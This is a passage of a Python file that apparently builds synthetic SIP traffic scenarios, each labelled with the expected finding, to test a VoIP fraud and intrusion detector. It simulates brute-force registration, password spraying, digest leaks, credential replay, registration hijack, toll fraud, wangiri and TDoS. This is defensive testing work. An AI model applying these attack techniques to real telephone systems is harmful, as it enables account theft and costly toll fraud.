        outer.answer(t + 100 + after, text, line, (D, 5060), body=sdp("203.0.113.10", 9100) if line[0] == "2" else "", tag="qq")
    return w, [dict(kind="unauthenticated-call", sources=[D], calls=1, answered=1)]


@story
def digest_leak_with_proxy_field():
    w = Tap(367)
    site = provider(w, phones=8)
    t, victims = site.begin + 2 * HOUR, site.phones[:4]
    for k, phone in enumerate(victims):
        leg = Leg(w, Handset(w, "500", A, SETS["sipjs"], 5066), phone.at, "sip:%s@%s" % (phone.user, phone.at[0]), name=phone.make.agent)
        leg.start(t)
        leg.ring(t + .2)
        leg.take(t + 3)
        answer = 'Authorization: Digest username="%s", realm="pbx", nonce="aa%d", uri="sip:500@%s:5066", response="%s", algorithm=MD5, qop=auth, nc=00000001, cnonce="11"' % (phone.user, k, A, w.hex(32))
        leg.draw_out(t + 9, "401 Unauthorized", 'WWW-Authenticate: Digest realm="pbx", nonce="aa%d", qop="auth", algorithm=MD5' % k, answer if k < 3 else None, 101, via=";rport")
        t += 45
    return w, [dict(kind="digest-leak", sources=[A], successes=3, severity="critical")]


@story
def second_contact_over_ipv6():
    """A contact is added beside the owner's, who stays."""
    w = Tap(368)
    site = provider(w, address="2001:db8:40::40")
    t, owner = site.begin + 3 * HOUR, site.phones[5]
    thief = Handset(w, owner.user, "2a06:98c0:3600::103", SETS["baresip"], 5060, local="2a06:98c0:3600::103")
    for k in range(3):
        thief.register(t + 1500 * k, site, bindings=[owner.contact, thief.contact])
    return w, [dict(kind="registration-hijack", sources=["2a06:98c0:3600::103"], accounts=[owner.user])]


@story
def contacts_ended_by_a_stranger():
    w = Tap(369)
    site = provider(w)
    t = site.begin + 3 * HOUR
    for phone in site.phones[2:6]:
        Handset(w, phone.user, B, SETS["sipjs"], 5090).register(t, site, expires=0, contact=phone.contact)
        t += 31
    return w, [dict(kind="deregistration", sources=[B], accounts=[p.user for p in site.phones[2:6]], successes=4)]


@story
def replayed_over_another_way():
    w = Tap(370)
    site = provider(w, phones=9, digest="rfc2069")
    t, owner = site.begin + 2 * HOUR, site.phones[2]
    owner.register(t, site, fresh=True)
    heard = w.heard(t, b"Authorization", dst=site.at)
    for k in range(3):
        text = heard.replace(owner.local, C).replace("z9hG4bK", "z9hG4bKr%d" % k)
        w.send(t + 600 + 20 * k, (C, 5060), site.at, text)
        site.answer(t + 600.01 + 20 * k, text, "200 OK", (C, 5060), ["Contact: <sip:%s@%s:5060>;expires=3600" % (owner.user, C)])
    return w, [dict(kind="credential-replay", sources=[C], accounts=[owner.user], successes=3)], ("registration-hijack",)


@story
def one_ring_slowly():
    """Twelve an hour for five hours, by three callers in a row of numbers; two call back the next morning."""
    w = Tap(371)
    site = clinic(w, phones=20, hours=30, rate=3)
    t, callers = site.begin + HOUR, ["+2326%07d" % (7000000 + k) for k in range(3)]
    for k in range(60):
        site.arrive(t + 300 * k, callers[k % 3], site.phones[(7 * k) % 24], ring=.8, talk=0, cancel=True)
    for k in range(2):
        site.out(t + 20 * HOUR + 500 * k, site.phones[2 + k], callers[k], ring=6, talk=200)
    return w, [dict(kind="wangiri", numbers=callers, calls=62, successes=2)]


@story
def one_ring_and_hang_up_after_answer():
    w = Tap(372)
    site = clinic(w, phones=24, cc="44", stem="+441614960")
    t, callers = site.begin + HOUR, ["+2250%08d" % (70000000 + 11 * k) for k in range(4)]
    for k in range(44):
        site.arrive(t + 17 * k, callers[k % 4], site.phones[(5 * k) % 28], ring=.7, talk=0, cancel=True)
    return w, [dict(kind="wangiri", numbers=callers, calls=44, successes=0)]


@story
def line_blocked_by_few():
    """Twelve callers in turn keep thirty calls up on one number, each about a minute."""
    w = Tap(373)
    site = clinic(w, rate=10)
    t = site.begin + 4 * HOUR
    for k in range(150):
        site.arrive(t + 2.2 * k, "+1%s%07d" % (("312", "415", "617", "212")[k % 4], w.rnd.randrange(2000000, 9999999)), None, number="+16175552200", ring=.5, talk=58 + w.rnd.random())
    return w, [dict(kind="tdos", calls=150)]


@story
def robots_of_three_routes():
    """One campaign arrives over two carriers."""
    w = Tap(374)
    site = clinic(w, phones=30)
    t = site.begin + 3 * HOUR
    for k in range(260):
        site.arrive(t + 5 * k, "+1617555%04d" % w.rnd.randrange(3000, 9999), site.phones[k % 30], ring=w.rnd.uniform(4, 14), talk=w.rnd.uniform(2, 8), cancel=w.rnd.random() < .35)
    return w, [dict(kind="robocalling", calls=260)]


@story
def exchange_of_a_farm():
    """An account calls free conferences of one rural exchange, for hours."""
    w = Tap(375)
    site = clinic(w)
    seconds, phone = 0, site.phones[5]
    for k in range(40):
        length = 2400 + 37 * k
        site.out(site.begin + HOUR + 500 * k, phone, "+1712432%04d" % (1000 + k % 9), ring=2, talk=length)
        seconds += length
    return w, [dict(kind="traffic-pumping", calls=40, minutes=seconds / 60)]


@story
def our_numbers_from_outside():
    w = Tap(376)
    site = clinic(w)
    for k in range(8):
        site.arrive(site.begin + 2 * HOUR + 300 * k, "+1617555220%d" % (1 + k), site.phones[8 + k % 6], ring=5, talk=70)
    return w, [dict(kind="caller-id-spoofing", calls=8, severity="high")]


@story
def transfers_for_profit():
    """A stolen account is called, and hands each caller over to a number that pays."""
    w = Tap(377)
    site = clinic(w)
    t, thief = site.begin + 2 * HOUR, Handset(w, "2242", C, SETS["sipjs"], 5070)
    thief.register(t - 60, site)
    for k in range(5):
        near = Leg(w, thief, site.at, "sip:2201@voice.example", name=site.name)
        at = near.start(t + 500 * k, site)
        near.ring(at + .3)
        near.take(at + 3)
        site.hand_over(near, at + 6, "01125261%07d@voice.example" % (1234500 + k), "2242@voice.example", "25261%07d" % (1234500 + k), "+16175552242@203.0.113.10", 240)
    return w, [dict(kind="transfer-abuse", sources=[C], calls=5)], ("registration-hijack", "toll-fraud")


@story
def redirected_to_somalia():
    """The thief's phone answers what comes in with 302."""
    w = Tap(378)
    site = clinic(w)
    t, thief = site.begin + 2 * HOUR, Handset(w, "2243", D, SETS["bria"], 5070)
    thief.register(t - 60, site)
    for k in range(6):
        at = t + 400 * k
        near = Leg(w, site.trunk, (site.outside, 5060), "sip:+16175552243@203.0.113.10", name=site.name)
        near.start(at, frm="sip:+1312%07d@192.0.2.70" % (5550100 + k))
        inner = site.to_phone(at + .02, "+1312%07d" % (5550100 + k), thief)
        inner.refuse(at + .2, "302 Moved Temporarily", ["Contact: <sip:0112526155501%02d@203.0.113.10>" % k])
        far = Leg(w, site.self_, site.carrier, "sip:2526155501%02d@192.0.2.70" % k, name="Oracle-SBC")
        far.start(at + .3, frm="sip:+16175552243@203.0.113.10")
        site.both(at + .3, [near, far], 3, 280)
    return w, [dict(kind="transfer-abuse", calls=6)], ("registration-hijack",)


@story
def box_of_cards():
    w = Tap(379)
    site = clinic(w, cc="44", stem="+441614960", phones=20, rate=12)
    t, cells = site.begin + HOUR, ["+4477%s" % w.word(8, "0123456789") for _ in range(5)]
    for k in range(150):
        site.arrive(t + 100 * k, cells[k % 5], None, ring=5, talk=90 + w.rnd.random() * 200, number="+441614960%03d" % ((61 * k) % 900))
    return w, [dict(kind="sim-box", numbers=cells)]


@story
def words_to_everybody():
    w = Tap(380)
    site = provider(w)
    t = site.begin + 2 * HOUR
    spam = Handset(w, "offer", B, SETS["sipjs"], 5091, domain="192.0.2.40")
    for k in range(25):
        text = spam.request("MESSAGE", "sip:%d@192.0.2.40" % (441610 + k), "sip:%d@192.0.2.40" % (441610 + k), w.hex(20), 1, w.hex(8), body="cheap http://x.example/", kind="text/plain")
        spam.say(t + 4 * k, site, text)
        site.answer(t + 4 * k + .1, text, "202 Accepted" if k < 18 else "404 Not Found", spam.at)
    return w, [dict(kind="anomaly", sources=[B], finding="FRAUD-066")]


@story
def wrong_password_at_home():
    """A telephone at home asks each minute with an old password, all day: no attack."""
    w = Tap(381)
    site = provider(w, hours=10)
    phone = Handset(w, "441640", "86.99.1.2", SETS["fritz"], 5060, local="192.168.178.40")
    for k in range(480):
        phone.register(site.begin + 60 * k + w.rnd.random(), site, "401 Unauthorized", fresh=True)
    return w, [dict(kind="misconfigured-device", sources=["86.99.1.2"], accounts=["441640"])]


@story
def theft_in_a_week_of_a_clinic():
    w = Tap(382)
    site = clinic(w, hours=9)
    for day in range(1, 5):
        for phone in site.phones:
            keep_registered(site, phone, MONDAY + (3 + day) * DAY + 5 * HOUR, MONDAY + (3 + day) * DAY + 20 * HOUR, 3300)
        ordinary_calls(site, site.phones, MONDAY + (3 + day) * DAY + 7 * HOUR, MONDAY + (3 + day) * DAY + 17 * HOUR, 8, site.friends, ["+525512345678", "+14165550123"])
    return w, [theft(w, site, MONDAY + 6 * DAY + 3 * HOUR, "2241", C, numbers_of(w, ("+2522", "+96079", "+37167", "+2457"), 36), talk=330., gap=50)]


@story
def three_calls_at_a_time_for_two_nights():
    w = Tap(383)
    site = provider(w, hours=40, rate=4)
    thief, n = Handset(w, "441624", D, SETS["audiocodes"], 5060), 0
    for night in range(2):
        for k in range(12):
            for line in range(3):
                site.out(MONDAY + (3 + night) * DAY + 22 * HOUR + 600 * k + 2 * line, thief, numbers_of(w, ("+2455", "+2390", "+88234"), 3)[line], ring=2, talk=480, by_caller=False)
                n += 1
    return w, [dict(kind="toll-fraud", sources=[D], accounts=["441624"], calls=n, minutes=n * 8., concurrent_peak=3)]


@story
def trunk_account_of_the_exchange():
    """A trunk's own login, registered at the provider, is used from elsewhere."""
    w = Tap(384)
    site = provider(w)
    trunk = Handset(w, "trunk-4410", "86.77.1.1", SETS["audiocodes"], 5060)
    keep_registered(site, trunk, site.begin, site.begin + 9 * HOUR, 900)
    for k in range(30):
        site.out(site.begin + 500 + 900 * k, trunk, site.friends[k], ring=7, talk=150)
    return w, [theft(w, site, site.begin + 5 * HOUR, "trunk-4410", A, numbers_of(w, ("+2522", "+2326", "+37167"), 40), talk=180., gap=9, make="freeswitch")]


@story
def alarm_calls_of_one_account():
    w = Tap(385)
    site = clinic(w)
    t = site.begin + 4 * HOUR
    for k in range(9):
        site.out(t + 45 * k, site.phones[3], "+1911", dialled="911", ring=1, talk=4)
    return w, [dict(kind="tdos", accounts=[site.phones[3].user], calls=9, severity="critical")]


# --- pauses, repeats, and more than one way --------------------------------------------------------------------------

@story
def pause_of_five_hours():
    w = Tap(390)
    site = provider(w, hours=14)
    bot, t = Bot(w, A, "compact", "Cisco ATA 186 v3.1"), site.begin + HOUR
    for k in range(160):
        bot.guess(t + 4 * k + (5 * HOUR if k >= 80 else 0), site, "441619", "y%d" % k)
    return w, [dict(kind="brute-force", sources=[A], accounts=["441619"], attempts=160, successes=0)]


@story
def three_an_hour_for_three_days():
    w = Tap(391)
    site = provider(w, hours=75, rate=2)
    t = site.begin + HOUR
    for k in range(200):
        Bot(w, B, "sipsak", "SJphone/1.60.299a", rotates=True).guess(t, site, "441615", "o%d" % k)
        t += w.rnd.uniform(900, 1500)
    return w, [dict(kind="brute-force", sources=[B], accounts=["441615"], attempts=200, successes=0)]


@story
def everything_sent_three_times():
    """Lost answers: each datagram of the guesser comes three times; that is one attempt."""
    w = Tap(392)
    site = provider(w)
    before = len(w.said)
    events = crack(Bot(w, C, "script", "Mitel 5320e"), site.begin + HOUR, site, "441614", 50, gap=12)
    for one in list(w.said[before:]):
        if one[2][0] == C:
            for after in (.5, 1.5):
                w.said.append((one[0] + after, len(w.said), *one[2:]))
    return w, events


@story
def name_of_the_login_is_another():
    """The account's login is not its number: what is guessed is the login."""
    w = Tap(393)
    site = provider(w)
    t = site.begin + HOUR
    for k in range(60):
        phone = Handset(w, "441611", D, SETS["sipjs"], 6000, password="m%d" % k)
        phone.digest = lambda *a, _digest=phone.digest, **m: _digest(*a, **dict(m, user="auth-7731"))
        phone.register(t + 8 * k, site, "401 Unauthorized", fresh=True)
    return w, [dict(kind="brute-force", sources=[D], accounts=["auth-7731"], attempts=60, successes=0)]


@story
def thief_behind_five_exits():
    """One stolen account, the calls come from five addresses of a VPN in turn."""
    w = Tap(394)
    site = provider(w)
    t, exits, called = site.begin + 3 * HOUR, ["146.70.%d.%d" % (10 * k, 20 + k) for k in range(5)], numbers_of(w, ("+2522", "+2326", "+37167"), 40)
    for k, number in enumerate(called):
        thief = Handset(w, "441617", exits[k % 5], SETS["sipjs"], 5070)
        if k < 5:
            thief.register(t - 100 + 9 * k, site)
        site.out(t + 30 * k, thief, number, ring=2, talk=200, by_caller=False)
    return w, [dict(kind="toll-fraud", sources=exits, accounts=["441617"], calls=40, minutes=40 * 200 / 60)], ("registration-hijack",)


@story
def two_accounts_fall_to_a_spray_and_both_call():
    w = Tap(395)
    site = provider(w, phones=22)
    t, victims = site.begin + 2 * HOUR, users(441610, 20)
    for k, user in enumerate(victims):
        Bot(w, A, "pts", None, rotates=True).guess(t + 6 * k, site, user, "1234", "200 OK" if k in (4, 15) else None)
    loot = [theft(w, site, t + 1500, victims[4], B, numbers_of(w, ("+2522",), 14)), theft(w, site, t + 1700, victims[15], D, numbers_of(w, ("+96079", "+2390"), 12))]
    return w, [dict(kind="password-spraying", sources=[A], accounts=victims, attempts=20, successes=2), dict(kind="account-compromise", accounts=[victims[4], victims[15]]), *loot], ("registration-hijack",)


@story
def digest_leak_that_nobody_answers():
    w = Tap(396)
    site = provider(w, phones=8)
    t = site.begin + 2 * HOUR
    for k, phone in enumerate(site.phones[:3]):
        leg = Leg(w, Handset(w, "100", C, SETS["baresip"], 5066), phone.at, "sip:%s@%s" % (phone.user, phone.at[0]), name=phone.make.agent)
        leg.start(t)
        leg.ring(t + .2)
        leg.take(t + 3)
        leg.draw_out(t + 9, "407 Proxy Authentication Required", 'Proxy-Authenticate: Digest realm="asterisk", nonce="77%d", algorithm=MD5' % k, cseq=101, via=";rport")
        t += 50
    return w, [dict(kind="digest-leak", sources=[C], successes=0, severity="high")]


@story
def registers_where_nobody_asks():
    """From outside the server takes any REGISTER, sent to its address instead of its name: contacts over those of two accounts."""
    w = Tap(397)
    site = provider(w)
    t = site.begin + 3 * HOUR
    for user in ("441613", "441616"):
        thief = Handset(w, user, D, SETS["sipjs"], 5060)
        for k in range(3):
            text = thief.request("REGISTER", "sip:192.0.2.40", "sip:%s@192.0.2.40" % user, thief.call_id, 1 + k, w.hex(8), expires="3600")
            thief.say(t + 1200 * k, site, text)
            site.answer(t + 1200 * k + .02, text, "200 OK", thief.at, ["Contact: %s;expires=3600" % thief.contact])
        t += 20
    return w, [dict(kind="registration-hijack", sources=[D], accounts=["441613", "441616"], severity="critical")]


@story
def numbers_dialled_in_a_row():
    """A stolen account calls two hundred and fifty domestic numbers, one after the other."""
    w = Tap(398)
    site = clinic(w)
    t, thief = site.begin + 2 * HOUR, Handset(w, "2241", B, SETS["baresip"], 5070)
    thief.register(t - 30, site)
    for k in range(250):
        hit = k % 4 == 0
        site.out(t + 9 * k, thief, "+1617494%04d" % (1000 + k), ring=6 if hit else 12, talk=7 if hit else 0, **({} if hit else dict(cancel=True)))
    return w, [dict(kind="robocalling", sources=[B], calls=250)], ("registration-hijack",)


@story
def guesses_at_two_doors():
    """One source, two registrars of one owner, the same accounts: one campaign."""
    w = Tap(399)
    site, other = provider(w), provider(w, address="192.0.2.44", stem="+441614980")
    bot, t = Bot(w, A, "script", "Telefon 1.0"), site.begin + HOUR
    for k in range(120):
        bot.guess(t + 3 * k, (site, other)[k % 2], "441612", "d%d" % k)
    return w, [dict(kind="brute-force", sources=[A], accounts=["441612"], attempts=120, successes=0)]


@story
def proxy_that_keeps_the_call_id():
    """Theft through a proxy: each call is seen before and behind it with one Call-ID, the number rewritten."""
    w = Tap(400)
    site, core = provider(w), ("203.0.113.90", 5060)
    t, thief, seconds = site.begin + 3 * HOUR, Handset(w, "441618", C, SETS["bria"], 5070), 0
    thief.register(t - 50, site)
    inner = w.send

    def send(t, src, dst, text, over="udp", client=True):
        inner(t, src, dst, text, over, client)
        if src == thief.at and dst == site.at and "Proxy-Authorization" in text or src == thief.at and text.startswith(("ACK sip:00", "BYE")) and "407" not in text and text.startswith("BYE"):
            copy = text.replace("Via: ", "Via: SIP/2.0/UDP 192.0.2.40;branch=z9hG4bK%s\r\nVia: " % md5(text)[:12], 1).replace("sip:00", "sip:+", 1)
            inner(t + .002, site.at, core, copy, "udp", True)
            behind[0] = copy
        elif dst == thief.at and text.startswith("SIP/2.0 ") and behind[0] and not text.startswith(("SIP/2.0 100", "SIP/2.0 407")):
            line = text.split("\r\n")[0][8:]
            if ("CSeq: " + text.split("CSeq: ")[1].split("\r")[0]) in behind[0]:
                inner(t - .002, core, site.at, reply(behind[0], line, "Oracle-SBC", "far", body=sdp("203.0.113.90", 9000) if line.startswith("200") and "INVITE" in behind[0][:6] else ""), "udp", False)
    behind = [""]
    w.send = send
    for k in range(12):
        behind[0] = ""
        site.out(t + 60 * k, thief, "+25261%07d" % (2000000 + 371 * k), ring=2, talk=240, reach=False)
        seconds += 240
    w.send = inner
    return w, [dict(kind="toll-fraud", sources=[C], accounts=["441618"], calls=12, minutes=seconds / 60)], ("registration-hijack",)


@story
def one_caller_holds_all_lines():
    w = Tap(401)
    site = clinic(w, rate=12)
    t = site.begin + 4 * HOUR
    for k in range(90):
        site.arrive(t + 1.5 * k, "+1%s%07d" % (("900", "111", "017")[k % 3], w.rnd.randrange(1000000, 9999999)), site.phones[0], number="+16175552201", ring=25, talk=0, cancel=True)
    return w, [dict(kind="tdos", calls=90)], ("caller-id-spoofing",)


@story
def one_ring_with_numbers_of_another_form():
    """The carrier shows callers as 00232..., our own as 020...; two are called back as 00232..."""
    w = Tap(410)
    site = clinic(w, phones=24, cc="44", stem="+442079460")
    t, callers = site.begin + HOUR, ["+2326%07d" % (5000000 + 13 * k) for k in range(5)]
    for k in range(40):
        site.arrive(t + 30 * k, "00" + callers[k % 5][1:], site.phones[(5 * k) % 28], ring=1, talk=0, cancel=True)
    for k in range(2):
        site.out(t + 2400 + 300 * k, site.phones[k], callers[k], ring=9, talk=150)
    return w, [dict(kind="wangiri", numbers=callers, calls=42, successes=2)]


@story
def our_numbers_in_national_form():
    w = Tap(411)
    site = clinic(w, cc="44", stem="+442079460")
    for k in range(7):
        site.arrive(site.begin + 2 * HOUR + 300 * k, "0207946022%02d" % (1 + k), site.phones[6 + k % 6], ring=5, talk=60)
    return w, [dict(kind="caller-id-spoofing", calls=7, severity="high")]


@story
def freephone_pumped_in_britain():
    w = Tap(412)
    site = clinic(w, cc="44", stem="+442079460", hours=11)
    for k in range(50):
        site.arrive(site.begin + 300 + 300 * k, "+44%s%06d" % (w.rnd.choice(("7700", "7911", "7400")), w.rnd.randrange(10**6)), None, number="+448081570%03d" % 192, ring=.4, talk=620 + k % 5)
    return w, [dict(kind="traffic-pumping", numbers=["+448081570192"], calls=50)]


@story
def floods_of_other_methods():
    w = Tap(413)
    site = provider(w)
    t = site.begin + 2 * HOUR
    for k in range(2500):
        Bot(w, A, "script", None, port=5061).ask(t + .012 * k, site, ("BYE", "NOTIFY", "SUBSCRIBE", "MESSAGE", "PUBLISH")[k % 5], str(441610 + k % 9))
    return w, [dict(kind="flood", sources=[A], messages=2500)]


@story
def invite_replayed_to_somalia():
    """An INVITE with its digest is sent again from elsewhere, with another number; it passes."""
    w = Tap(414)
    site = provider(w, digest="rfc2069")
    t, owner = site.begin + 2 * HOUR, site.phones[1]
    site.out(t, owner, site.friends[0], ring=5, talk=60)
    heard = [one for one in w.said if one[2] == owner.at and b"Proxy-Authorization" in one[4] and one[4].startswith(b"INVITE") and one[0] >= t][-1][4].decode()
    number = heard.split("sip:")[1].split("@")[0]
    for k in range(3):
        text = heard.replace(number, "0025261555010%d" % k).replace(owner.local, C).replace("z9hG4bK", "z9hG4bKi%d" % k).replace(heard.split("Call-ID: ")[1].split("\r")[0], w.hex(20)) if "Call-ID: " in heard else heard
        w.send(t + 300 + 100 * k, (C, 5060), site.at, text)
        for after, line in ((.02, "100 Trying"), (2, "180 Ringing"), (4, "200 OK")):
            site.answer(t + 300 + 100 * k + after, text, line, (C, 5060), tag="rr%d" % k, body=sdp("192.0.2.40", 9200) if line[0] == "2" else "")
    return w, [dict(kind="credential-replay", sources=[C], accounts=[owner.user], successes=3)], ("toll-fraud",)


@story
def servers_looked_for_in_v6():
    w = Tap(415)
    site = provider(w, address="2001:db8:40::40")
    bot, t = Bot(w, "2a0e:bf00::7", "sipsak", None, port=5070), site.begin + HOUR
    for k in range(45):
        bot.ask(t + .2 * k, Server(w, "2001:db8:40::%x" % (0x20 + k)), "OPTIONS", "100", "200 OK" if 0x20 + k == 0x40 else None)
    return w, [dict(kind="options-scan", sources=["2a0e:bf00::7"], attempts=45, successes=1)]


@story
def first_names_from_a_dictionary():
    w = Tap(416, mangle=lower)
    site = provider(w)
    names = ["adam", "alice", "amy", "anna", "ben", "bob", "carl", "carol", "chris", "dan", "dave", "diana", "ed", "ella", "emma", "eric", "eva", "frank", "fred", "gina", "greg", "hans", "helen", "henry", "ian", "ida", "jack", "jane", "jim", "joe",
             "john", "kate", "ken", "kim", "lara", "leo", "lily", "lisa", "luke", "mark", "mary", "max", "mia", "mike", "nick", "nina", "olga", "oscar", "paul", "pete", "rita", "rob", "rose", "sam", "sara", "sue", "ted", "tim", "tom", "zoe"]
    return w, [enumerate_(Bot(w, B, "script", "Linphone/4.5"), site.begin + HOUR, site, names, {"bob", "kate", "tom"}, gap=3)]


@story
def sprayed_from_twelve_addresses():
    w = Tap(417)
    site = provider(w, phones=26, hours=12)
    t, victims, sources = site.begin + HOUR, users(441610, 24), ["%d.88.7.%d" % (11 + 9 * k, 40 + k) for k in range(12)]
    for k in range(144):
        Bot(w, sources[k % 12], "compact", "Bria iOS 6.1", rotates=True).guess(t, site, victims[(5 * k) % 24], "Welcome%d" % (k // 24))
        t += w.rnd.uniform(60, 250)
    return w, [dict(kind="password-spraying", sources=sources, accounts=victims, attempts=144, successes=0)]


@story
def banned_after_forty():
    """After forty refusals a firewall drops what the guesser sends; it goes on asking in vain."""
    w = Tap(418)
    site = provider(w)
    bot, t = Bot(w, C, "vicious", "Vodafone Station 6.1"), site.begin + HOUR
    for k in range(40):
        bot.guess(t + k, site, "441613", "f%d" % k)
    for k in range(120):
        bot.ask(t + 40 + 2 * k, site, "REGISTER", "441613")
    return w, [dict(kind="brute-force", sources=[C], accounts=["441613"], attempts=40, successes=0)]


@story
def a_third_of_the_stolen_calls_fail():
    w = Tap(419)
    site = provider(w)
    t, thief, called = site.begin + 3 * HOUR, Handset(w, "441620", D, SETS["sipjs"], 5070), numbers_of(w, ("+2522", "+37167", "+96079"), 30)
    thief.register(t - 40, site)
    for k, number in enumerate(called):
        how = dict(ring=1, talk=0, status=("503 Service Unavailable", "486 Busy Here")[k % 2]) if k % 3 == 2 else dict(ring=2, talk=240, by_caller=False)
        site.out(t + 30 * k, thief, number, **how)
    return w, [dict(kind="toll-fraud", sources=[D], accounts=["441620"], calls=30, answered=20, minutes=80., numbers=called)], ("registration-hijack",)


@story
def one_call_out_for_a_stranger():
    """The exchange lets whoever asks call out; a stranger does so once, and talks a minute to a number in town."""
    w = Tap(420)
    site = clinic(w)
    outer = Pbx(w, "203.0.113.10", cc="1", form="", stem="+1617555", name=site.name, realm="asterisk", carrier="192.0.2.70")
    stranger = Handset(w, "test", A, SETS["sipjs"], 5060, domain="203.0.113.10")
    for k, number in enumerate(("0112526155", "900442031")):
        outer.out(site.begin + 2 * HOUR + 30 * k, stranger, "+1" + number, dialled=number, login=False, reach=False, ring=.1, talk=0, status="403 Forbidden")
    outer.out(site.begin + 2 * HOUR + 100, stranger, "+16174940199", dialled="16174940199", login=False, ring=5, talk=70)
    return w, [dict(kind="unauthenticated-call", sources=[A], calls=1, answered=1)]


@story
def keys_put_into_a_call():
    """Telephone events by another hand."""
    w = Tap(421)
    site = provider(w)
    t, a, b = site.begin + 2 * HOUR, ("86.10.21.7", 17400), ("192.0.2.40", 25000)
    leg = Leg(w, Handset(w, "441610", a[0], SETS["poly"], 5060), site.at, "sip:441612@voice.example", name=site.name)
    leg.with_media(t, a, b)
    w.rtp(t + .6, a, b, 1200, 50, ssrc=7, kind=0)
    w.rtp(t + .6, b, a, 1200, 50, ssrc=8, kind=0)
    for k in range(60):
        w.send(t + 8 + .05 * k, (D, 40000), b, struct.pack("!BBHIIBBH", 0x80, 101, k, 160 * k, 0x77, k % 10, 0x8A, 800), "raw")
    leg.bye(t + 25)
    return w, [dict(kind="rtp-injection", sources=[D], messages=60)]


SOME = ("same-answer-to-everybody", "registrar-that-says-407", "sha256-cracked", "nonce-kept-and-stale-now-and-then", "invites-that-guess", "every-guess-with-another-face", "addresses-of-one-v6-network",
        "sprayed-behind-a-nat", "tap-behind-the-border", "both-sides-of-a-border", "packets-cut-at-four-hundred", "starts-in-the-middle", "unknown-403-known-200", "one-name-in-ten-minutes",
        "phones-called-where-they-stand", "four-hands-at-once", "protos-suite", "media-flooded-and-put-in", "theft-in-fragments-and-tags", "owner-and-thief-call-at-once", "sipcli-finds-the-hole",
        "stranger-rings-the-reception", "second-contact-over-ipv6", "registers-where-nobody-asks", "replayed-over-another-way", "one-ring-slowly", "transfers-for-profit", "redirected-to-somalia",
        "numbers-dialled-in-a-row", "proxy-that-keeps-the-call-id", "everything-sent-three-times", "banned-after-forty", "search-before-the-spray")

if __name__ == "__main__":
    sys.exit(tell(sys.argv[1], STORIES, list(STORIES) if sys.argv[2:] == ["all"] else sys.argv[2:] or SOME))
